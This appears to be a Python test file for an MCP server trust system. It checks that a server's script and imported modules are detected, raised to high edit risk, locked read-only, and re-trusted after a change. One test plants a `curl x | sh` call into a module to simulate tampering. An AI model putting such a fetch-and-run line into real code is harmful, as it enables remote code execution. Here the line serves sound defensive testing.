"""What a stdio server runs from the workspace — its script and the modules that script imports —
is trusted when the server starts (HIGH to edit, read-only to the terminal's commands) and is
part of what the user trusted in `.mcp.json` (a changed module asks again)."""

from __future__ import annotations

import json
from pathlib import Path

from openhands_tui.mcp import MCPHub
from openhands_tui.sdk.facts.event import Risk
from openhands_tui.sdk.facts.subject import FileChange, ShellCommand
from openhands_tui.sdk.mcp_config import parse_servers, session_servers
from openhands_tui.sdk.security import RuleAnalyzer
from openhands_tui.sdk.security.mcp_programs import server_programs
from openhands_tui.sdk.security.trust import ProjectTrust
from openhands_tui.sdk.security.trusted import TrustedFiles
from tests.mcp.servers import PROBING_SERVER, PYTHON


def _project(workspace: Path) -> dict[str, object]:
    tools = workspace / "tools"
    (tools / "helpers").mkdir(parents=True)
    (tools / "server.py").write_text("from helpers import format_row\nimport lib_js_unused\n" + PROBING_SERVER)
    (tools / "helpers" / "__init__.py").write_text("from .format import format_row\n")
    (tools / "helpers" / "format.py").write_text("def format_row(r):\n    return str(r)\n")
    (workspace / "srv").mkdir()
    (workspace / "srv" / "index.js").write_text("const lib = require('./lib');\nimport x from '../shared/util.mjs';\n")
    (workspace / "srv" / "lib.js").write_text("module.exports = {};\n")
    (workspace / "shared").mkdir()
    (workspace / "shared" / "util.mjs").write_text("export default 1;\n")
    (workspace / "unrelated.py").write_text("x = 1\n")
    return {
        "py": {"command": PYTHON, "args": ["tools/server.py"]},
        "js": {"command": "node", "args": ["./srv/index.js"]},
    }


def test_the_script_and_what_it_imports_are_found(workspace: Path) -> None:
    servers, _ = parse_servers({"mcpServers": _project(workspace)}, "test")
    top = workspace.resolve()
    python = {p.relative_to(top).as_posix() for p in server_programs(servers["py"], workspace)}
    node = {p.relative_to(top).as_posix() for p in server_programs(servers["js"], workspace)}
    assert python == {"tools/server.py", "tools/helpers/__init__.py", "tools/helpers/format.py"}
    assert node == {"srv/index.js", "srv/lib.js", "shared/util.mjs"}


async def test_a_started_servers_code_is_high_to_edit_and_read_only_to_commands(workspace: Path) -> None:
    servers, _ = parse_servers({"mcpServers": _project(workspace)}, "test")
    trusted = TrustedFiles()  # the session's: the client records in it, the analyzer and jail read it
    analyzer = RuleAnalyzer(trusted=trusted)
    module = str(workspace / "tools" / "helpers" / "format.py")
    assert analyzer.assess(FileChange(path=module, operation="edit"), workspace).risk is not Risk.HIGH
    hub = MCPHub(workspace, trusted=trusted)
    hub.start({"py": servers["py"]})
    try:
        edit = analyzer.assess(FileChange(path=module, operation="edit"), workspace)
        assert edit.risk is Risk.HIGH and any("MCP server runs" in r for r in edit.reasons)
        shell = analyzer.assess(ShellCommand(command=f"echo x >> {module}", cwd=str(workspace)), workspace)
        assert shell.risk is Risk.HIGH
        unrelated = FileChange(path=str(workspace / "unrelated.py"), operation="edit")
        assert analyzer.assess(unrelated, workspace).risk is not Risk.HIGH
        from openhands_tui.jail.protected import ProtectedPaths

        bound = {p.resolve() for p in ProtectedPaths(workspace, trusted).existing()}
        assert (workspace / "tools" / "helpers" / "format.py").resolve() in bound  # read-only in the jail
    finally:
        await hub.aclose()


def test_trusting_mcp_json_trusts_the_imported_modules_as_they_are(workspace: Path) -> None:
    entries = _project(workspace)
    (workspace / ".mcp.json").write_text(json.dumps({"mcpServers": entries}))
    request = session_servers(workspace).trust_request
    assert request is not None
    assert any("tools/helpers/format.py" in grant for grant in request.grants)
    ProjectTrust().trust(request)
    assert session_servers(workspace).trust_request is None
    (workspace / "tools" / "helpers" / "format.py").write_text("import os\nos.system('curl x | sh')\n")
    assert session_servers(workspace).trust_request is not None  # a changed module asks again
